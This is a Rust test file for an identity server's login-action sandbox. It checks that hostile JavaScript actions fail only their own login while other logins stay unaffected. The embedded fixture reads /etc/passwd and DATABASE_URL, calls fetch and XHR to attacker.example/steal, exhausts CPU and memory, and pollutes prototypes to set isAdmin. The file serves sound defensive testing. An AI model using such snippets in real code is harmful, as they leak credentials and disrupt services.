//! The sandbox through HTTP: a hostile action fails only the login that ran
//! it (`access_denied`, `action_failed`, the failure's kind in the log) while
//! concurrent logins of another application succeed, and the server keeps
//! serving. The hostile behaviour is chosen by the application's name, since
//! bindings are per trigger.

use serde_json::{Value, json};

use super::{NS, deploy_and_bind, password_login, server, web_app};
use crate::common::*;
use crate::flows::{App, apis, claims, field, user};
use crate::logs::events_until;

const HOSTILE: &str = r#"exports.onExecutePostLogin = async (event, api) => {
  const namespace = 'https://my-app.example.com';
  const name = event.client.name;
  if (name === 'evil:loop') {
    while (true) {}
  }
  if (name === 'evil:alloc') {
    const hog = [];
    while (true) { hog.push(new Array(100000).fill(name)); }
  }
  if (name === 'evil:recursion') {
    const down = (n) => down(n + 1) + 1;
    down(0);
  }
  if (name === 'evil:require') {
    const fs = require('fs');
    api.idToken.setCustomClaim(`${namespace}/passwd`, fs.readFileSync('/etc/passwd', 'utf8'));
  }
  if (name === 'evil:fetch') {
    const res = await fetch('https://attacker.example/steal');
    api.idToken.setCustomClaim(`${namespace}/fetched`, await res.text());
  }
  if (name === 'evil:xhr') {
    const xhr = new XMLHttpRequest();
    xhr.open('GET', 'https://attacker.example/steal');
    xhr.send();
  }
  if (name === 'evil:env') {
    api.idToken.setCustomClaim(`${namespace}/env`, process.env.DATABASE_URL);
  }
  if (name === 'evil:never') {
    await new Promise(() => {});
  }
  if (name === 'evil:deny') {
    api.access.deny('Not you.');
  }
  if (name === 'evil:pollute') {
    Object.prototype.polluted = 'yes';
    Array.prototype.polluted = 'yes';
    Object.getPrototypeOf(event).polluted = 'yes';
    event.user.__proto__.isAdmin = true;
    Object.getPrototypeOf(api.accessToken).polluted = 'yes';
    api.accessToken.setCustomClaim = () => api;
    api.idToken.setCustomClaim = () => api;
    globalThis.leaked = 'yes';
    JSON.stringify = () => '{"sub":"evil"}';
    Function.prototype.call = () => 'hijacked';
  }
  api.accessToken.setCustomClaim(`${namespace}/clean`, {
    object: typeof ({}).polluted,
    array: typeof [].polluted,
    event: typeof event.polluted,
    api: typeof api.accessToken.polluted,
    global: typeof globalThis.leaked,
    is_admin: typeof event.user.isAdmin,
    stringify: JSON.stringify({ a: 1 }),
  });
};"#;

/// What the good logins' tokens say when nothing leaked into their run.
fn clean() -> Value {
    json!({
        "object": "undefined",
        "array": "undefined",
        "event": "undefined",
        "api": "undefined",
        "global": "undefined",
        "is_admin": "undefined",
        "stringify": "{\"a\":1}",
    })
}

#[track_caller]
fn assert_good(r: &Reply) {
    assert_eq!(r.status, 200, "{r:?}");
    let at = claims(&field(r, "access_token"));
    assert_eq!(at[format!("{NS}/clean")], clean(), "{at}");
}

/// Runs the `evil:{what}` login concurrently with four logins of a good
/// app, then one more good login: the evil one's answer.
async fn evil_among_good(what: &str) -> (TestServer, Reply) {
    let s = server().await;
    apis(&s).await;
    user(&s).await;
    let good: App = web_app(&s, "Good app", json!({})).await;
    let evil: App = web_app(&s, &format!("evil:{what}"), json!({})).await;
    let admin = s.admin_token().await;
    deploy_and_bind(&s, &admin, "post-login", "hostile", HOSTILE, json!([])).await;
    let scope = "openid read:orders";
    let (e, g1, g2, g3, g4) = tokio::join!(
        password_login(&s, &evil, scope, "evil"),
        password_login(&s, &good, scope, "good"),
        password_login(&s, &good, scope, "good"),
        password_login(&s, &good, scope, "good"),
        password_login(&s, &good, scope, "good"),
    );
    for g in [&g1, &g2, &g3, &g4] {
        assert_good(g);
    }
    assert_good(&password_login(&s, &good, scope, "after").await);
    (s, e)
}

/// The evil login failed with `action_failed` and the log has the failure
/// as `kind`.
async fn assert_failed_as(s: &TestServer, e: &Reply, kind: &str) {
    assert_eq!(e.status, 403, "{e:?}");
    assert_eq!(e.body["error"], "access_denied", "{e:?}");
    assert_eq!(e.reason(), Some(Reason::ActionFailed), "{e:?}");
    assert!(e.body.get("access_token").is_none());
    let admin = s.admin_token().await;
    let events = events_until(s, &admin, |events| {
        events
            .iter()
            .any(|e| e["type"] == "actions_execution_failed")
    })
    .await;
    let failed: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "actions_execution_failed")
        .collect();
    assert_eq!(failed.len(), 1, "{failed:#?}");
    assert_eq!(
        failed[0]["details"]["error"]["kind"], kind,
        "{:#?}",
        failed[0]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_infinite_loop_fails_only_its_login() {
    let (s, e) = evil_among_good("loop").await;
    assert_failed_as(&s, &e, "timeout").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_allocation_fails_only_its_login() {
    let (s, e) = evil_among_good("alloc").await;
    assert_failed_as(&s, &e, "memory_limit").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deep_recursion_fails_only_its_login() {
    let (s, e) = evil_among_good("recursion").await;
    assert_failed_as(&s, &e, "stack_overflow").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn require_fs_fails_only_its_login() {
    let (s, e) = evil_among_good("require").await;
    assert_failed_as(&s, &e, "exception").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fetch_fails_only_its_login() {
    let (s, e) = evil_among_good("fetch").await;
    assert_failed_as(&s, &e, "exception").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xml_http_request_fails_only_its_login() {
    let (s, e) = evil_among_good("xhr").await;
    assert_failed_as(&s, &e, "exception").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reading_process_env_fails_only_its_login() {
    let (s, e) = evil_among_good("env").await;
    assert_failed_as(&s, &e, "exception").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_promise_that_never_resolves_fails_only_its_login() {
    let (s, e) = evil_among_good("never").await;
    assert_failed_as(&s, &e, "never_settled").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denial_refuses_only_its_login() {
    let (_s, e) = evil_among_good("deny").await;
    assert_eq!(e.status, 403, "{e:?}");
    assert_eq!(e.body["error"], "access_denied");
    assert_eq!(e.body["error_description"], "Not you.");
    assert_eq!(e.reason(), Some(Reason::ActionDenied));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prototype_pollution_never_reaches_another_login() {
    // The polluting login itself succeeds (nothing it did is an error), but
    // its replaced `api` methods recorded nothing, and the good logins —
    // concurrent and after — run in clean contexts.
    let (_s, e) = evil_among_good("pollute").await;
    assert_eq!(e.status, 200, "{e:?}");
    let at = claims(&field(&e, "access_token"));
    assert!(at.get(format!("{NS}/clean")).is_none(), "{at}");
    assert_eq!(
        at["aud"]
            .as_array()
            .map_or(at["aud"].clone(), |a| a[0].clone()),
        crate::flows::API
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_action_at_authorize_answers_the_callback_with_access_denied() {
    let s = server().await;
    apis(&s).await;
    user(&s).await;
    let good: App = web_app(&s, "Good app", json!({})).await;
    let evil: App = web_app(&s, "evil:loop", json!({})).await;
    let admin = s.admin_token().await;
    deploy_and_bind(&s, &admin, "post-login", "hostile", HOSTILE, json!([])).await;
    let browser = crate::flows::browser();
    let ((q, _), good_login) = tokio::join!(
        crate::flows::authorize(&s, &browser, &evil, "openid", &[]),
        crate::flows::login(
            &s,
            &good,
            "openid read:orders",
            &[("audience", crate::flows::API)]
        ),
    );
    assert_eq!(
        q.get("error").map(String::as_str),
        Some("access_denied"),
        "{q:?}"
    );
    assert_eq!(q.get("state").map(String::as_str), Some("st"));
    assert!(!q.contains_key("code"), "{q:?}");
    assert_good(&good_login);
    // The same browser's session still logs in to the good app.
    let r = crate::flows::login_in(
        &s,
        &browser,
        &good,
        "openid read:orders",
        &[("audience", crate::flows::API)],
    )
    .await;
    assert_good(&r);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writing_to_the_event_changes_nothing_stored() {
    let s = server().await;
    apis(&s).await;
    let user_id = user(&s).await;
    let web: App = web_app(&s, "Good app", json!({})).await;
    let admin = s.admin_token().await;
    deploy_and_bind(
        &s,
        &admin,
        "post-login",
        "mutator",
        r#"exports.onExecutePostLogin = async (event, api) => {
  event.user.app_metadata.roles = ['admin'];
  event.user.email = 'mallory@example.com';
  event.user.user_id = 'auth0|someone-else';
  event.client.client_id = 'another-client';
};"#,
        json!([]),
    )
    .await;
    let r = password_login(&s, &web, "openid email", "agent").await;
    assert_eq!(r.status, 200, "{r:?}");
    let id = claims(&field(&r, "id_token"));
    assert_eq!(id["sub"], user_id.as_str());
    assert_eq!(id["email"], crate::flows::EMAIL);
    assert_eq!(id["aud"], web.id.as_str());
    let u = s
        .api(
            reqwest::Method::GET,
            &format!("api/v2/users/{}", crate::flows::enc(&user_id)),
            &admin,
            None,
        )
        .await;
    assert_eq!(u.body["app_metadata"], json!({}), "{u:?}");
    assert_eq!(u.body["email"], crate::flows::EMAIL);
}
